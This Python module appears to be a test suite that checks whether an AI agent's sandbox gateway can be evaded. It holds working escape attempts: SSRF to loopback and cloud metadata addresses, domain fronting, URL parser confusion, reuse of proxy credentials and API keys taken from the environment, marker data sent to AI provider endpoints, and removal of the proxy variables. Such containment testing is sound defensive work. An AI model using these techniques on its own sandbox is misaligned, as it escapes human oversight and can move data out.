"""The gateway as an accomplice: what it has been given for honest agents, used for something else."""

from __future__ import annotations

import base64
import os
import socket
import ssl
from collections.abc import Iterator
from contextlib import suppress
from functools import partial
from urllib.parse import unquote, urlsplit

from .attempt import Try, attempt, must_one
from .direct import say_tcp, say_udp
from .tls import allowed_address, blind, get

_PROXY_VARIABLES = ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY")
_BASE_VARIABLES = ("OPENAI_BASE_URL", "ANTHROPIC_BASE_URL", "OLLAMA_HOST")


def proxies() -> list[tuple[str, int, str]]:
    """Host, port and credentials of each proxy in the environment; what listens at the door where there is none."""
    found: list[tuple[str, int, str]] = []
    for name in _PROXY_VARIABLES:
        if value := os.environ.get(name):
            url = urlsplit(value)
            user = f"{unquote(url.username or '')}:{unquote(url.password or '')}"
            found.append((url.hostname or "", url.port or 80, user if url.username else ""))
    for name in _BASE_VARIABLES:
        if value := os.environ.get(name):
            url = urlsplit(value)
            found.append((url.hostname or "", url.port or (443 if url.scheme == "https" else 80), ""))
    return list(dict.fromkeys(found))


def handle() -> str:
    """The job's handle, where an agent finds it."""
    for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "CLAW_TOKEN", "CLAWPROXY_TOKEN"):
        if value := os.environ.get(name):
            return value
    return "none"


def _through(it: Try, authority: str, text: bytes, *, sni: str | None = None, user: str | None = None) -> None:
    """CONNECT by each proxy, then the bytes, in TLS where a name is given."""

    def one(host: str, port: int, known: str) -> None:
        word = known if user is None else user
        field = f"proxy-authorization: Basic {base64.b64encode(word.encode()).decode()}\r\n" if word else ""
        with socket.create_connection((host, port), timeout=1.5) as sock:
            sock.settimeout(1.5)
            sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nhost: {authority}\r\n{field}\r\n".encode())
            if b" 200" not in sock.recv(4096).split(b"\r\n")[0]:
                raise OSError("refused")
            inner = blind().wrap_socket(sock, server_hostname=sni) if sni else sock
            inner.sendall(text)
            inner.settimeout(0.5)
            with suppress(OSError):
                inner.recv(4096)

    must_one(partial(one, *row) for row in proxies())


@attempt("gateway: a host outside the contract", "CONNECT through the job's own proxy, with its handle", as_root=False)
def _forbidden(it: Try) -> None:
    _through(it, f"{it.to.forbidden}:443", get(it.to.forbidden, f"/open/{it.nonce}"), sni=it.to.forbidden)


@attempt("gateway: an address", "CONNECT to an address", as_root=False)
def _address(it: Try) -> None:
    for authority in (f"{it.to.public4}:443", f"[{it.to.public6}]:443", "1572394766:443", "0x5db8d70e:443"):
        with suppress(OSError):
            _through(it, authority, it.mark)


@attempt("gateway: another port", "CONNECT to ports of the allowed host and others", as_root=False)
def _port(it: Try) -> None:
    for authority in (f"{it.to.allowed}:22", f"{it.to.allowed}:8443", f"{it.to.forbidden}:25"):
        with suppress(OSError):
            _through(it, authority, it.mark)


@attempt("gateway: its own machine", "loopback, metadata and private addresses by the gateway", as_root=False)
def _inward(it: Try) -> None:
    port = it.to.loopback_port
    for authority in (
        f"127.0.0.1:{port}",
        f"localhost:{port}",
        f"[::1]:{port}",
        f"[::ffff:127.0.0.1]:{port}",
        f"2130706433:{port}",
        f"0.0.0.0:{port}",
        f"127.1:{port}",
        "169.254.169.254:80",
        "10.11.12.13:443",
        *(f"{address}:{it.to.service_port}" for address in it.to.host4),
    ):
        with suppress(OSError):
            _through(it, authority, it.mark)


@attempt("gateway: fronting in the tunnel", "CONNECT and TLS for the allowed, HTTP for another", as_root=False)
def _fronting(it: Try) -> None:
    _through(it, f"{it.to.allowed}:443", get(it.to.forbidden, f"/open/{it.nonce}"), sni=it.to.allowed)


@attempt("gateway: raw bytes in the tunnel", "CONNECT for the allowed, then no TLS", as_root=False)
def _raw(it: Try) -> None:
    _through(it, f"{it.to.allowed}:443", b"SSH-2.0-" + it.mark + b"\r\n")


def _plain(it: Try, text: str) -> None:
    must_one(partial(say_tcp, host, port, text.encode()) for host, port, _ in proxies())


def _authorized() -> str:
    users = [user for _, _, user in proxies() if user]
    return f"proxy-authorization: Basic {base64.b64encode((users or ['x:y'])[0].encode()).decode()}\r\n"


@attempt("gateway: plain url", "an absolute http URL by the proxy", as_root=False)
def _url(it: Try) -> None:
    host = it.to.forbidden
    _plain(it, f"GET http://{host}/{it.nonce} HTTP/1.1\r\nhost: {host}\r\n{_authorized()}\r\n")


@attempt(
    "gateway: url of two readings",
    "URLs that name an allowed host to one reader and another to the next",
    as_root=False,
)
def _two_readings(it: Try) -> None:
    allowed, forbidden = it.to.allowed, it.to.forbidden
    for url in (
        f"http://{allowed}@{forbidden}/open/{it.nonce}",
        f"http://{forbidden}#{allowed}/open/{it.nonce}",
        f"http://{forbidden}\\@{allowed}/open/{it.nonce}",
        f"http://{forbidden}:80/open/{it.nonce}",
    ):
        _plain(it, f"GET {url} HTTP/1.1\r\nhost: {forbidden}\r\n{_authorized()}\r\n")


@attempt("gateway: without credentials", "CONNECT without a handle, and with nonsense", as_root=False)
def _nobody(it: Try) -> None:
    text = get(it.to.forbidden, f"/open/{it.nonce}")
    for user in ("", "clawproxy:nonsense", f"admin:{handle()}"):
        with suppress(OSError):
            _through(it, f"{it.to.forbidden}:443", text, sni=it.to.forbidden, user=user)


@attempt("gateway: websocket by the proxy", "an upgrade for a host outside the contract", as_root=False)
def _websocket(it: Try) -> None:
    host = it.to.forbidden
    fields = "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAA\r\n"
    _plain(it, f"GET http://{host}/{it.nonce} HTTP/1.1\r\nhost: {host}\r\n{fields}{_authorized()}\r\n")


@attempt(
    "gateway: a key of one's own", "the provider's host with somebody else's key, and the data in it", as_root=False
)
def _own_key(it: Try) -> None:
    """Whoever has an account at an allowed provider could carry data there."""
    body = b'{"model":"gpt-4o-mini","messages":[{"role":"user","content":"' + it.mark + b'"}]}'
    for host in ("api.openai.com", "api.anthropic.com"):
        head = f"POST /v1/files HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer sk-{it.nonce}\r\n"
        text = (head + f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n").encode() + body
        with suppress(OSError):
            address = str(socket.getaddrinfo(host, 443, socket.AF_INET)[0][4][0])
            with (
                socket.create_connection((address, 443), timeout=1.5) as plain,
                blind().wrap_socket(plain, server_hostname=host) as sock,
            ):
                sock.sendall(text)
                sock.settimeout(0.5)
                sock.recv(4096)


@attempt("variables unset", "no proxy variables, no CA, straight to a forbidden name", as_root=False)
def _unset(it: Try) -> None:
    for name in [name for name in os.environ if "PROXY" in name.upper() or "CERT" in name or "CA" in name]:
        del os.environ[name]
    context = blind()
    with (
        socket.create_connection((it.to.forbidden, 443), timeout=1.5) as plain,
        context.wrap_socket(plain, server_hostname=it.to.forbidden) as sock,
    ):
        sock.sendall(get(it.to.forbidden, f"/open/{it.nonce}"))
        with suppress(OSError):
            sock.recv(100)


def _ask(address: str, host: str, it: Try) -> None:
    with (
        socket.create_connection((address, 443), timeout=1.5) as plain,
        blind().wrap_socket(plain, server_hostname=host) as sock,
    ):
        sock.sendall(get(host, f"/open/{it.nonce}"))
        sock.recv(100)


@attempt("pinned address", "the forbidden name at its real address, with a CA of one's own", as_root=False)
def _pinned(it: Try) -> None:
    for address in (it.to.public4, it.to.public6):
        with suppress(OSError):
            _ask(address, it.to.forbidden, it)


@attempt("the real address of the allowed", "past the door, to where the allowed name really is", as_root=False)
def _real(it: Try) -> None:
    for address in (it.to.allowed4, it.to.allowed6):
        with suppress(OSError):
            _ask(address, it.to.allowed, it)


def _around(address: str) -> Iterator[str]:
    base, last = address.rsplit(".", 1)
    for step in (1, 2, 3, 7, 50, 200):
        yield f"{base}.{(int(last) + step) % 256}"


@attempt("addresses without a name", "addresses beside the allowed name's, which no name was given", as_root=True)
def _nameless(it: Try) -> None:
    known = allowed_address(it)
    must_one(partial(say_tcp, address, 443, it.mark) for address in _around(known))


@attempt("udp to the allowed", "QUIC and DNS to the allowed name's address", as_root=True)
def _udp_allowed(it: Try) -> None:
    known = allowed_address(it)
    must_one(partial(say_udp, known, port, b"\xc3\0\0\0\x01\x10" + it.mark) for port in (443, 80, 4433))


@attempt("half a handshake", "data in the first packet to the allowed name, which no one has judged yet", as_root=True)
def _early(it: Try) -> None:
    with socket.socket() as sock:
        sock.settimeout(1.5)
        sock.setsockopt(socket.IPPROTO_TCP, 34, 1)
        sock.sendto(it.mark, socket.MSG_FASTOPEN, (allowed_address(it), 443))
        with suppress(OSError):
            sock.recv(100)


@attempt("older tls", "TLS 1.2 to the allowed, HTTP for another", as_root=False)
def _client(it: Try) -> None:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    with (
        socket.create_connection((allowed_address(it), 443), timeout=1.5) as plain,
        context.wrap_socket(plain, server_hostname=it.to.allowed) as sock,
    ):
        sock.sendall(get(it.to.forbidden, f"/open/{it.nonce}"))
        with suppress(OSError):
            sock.recv(100)
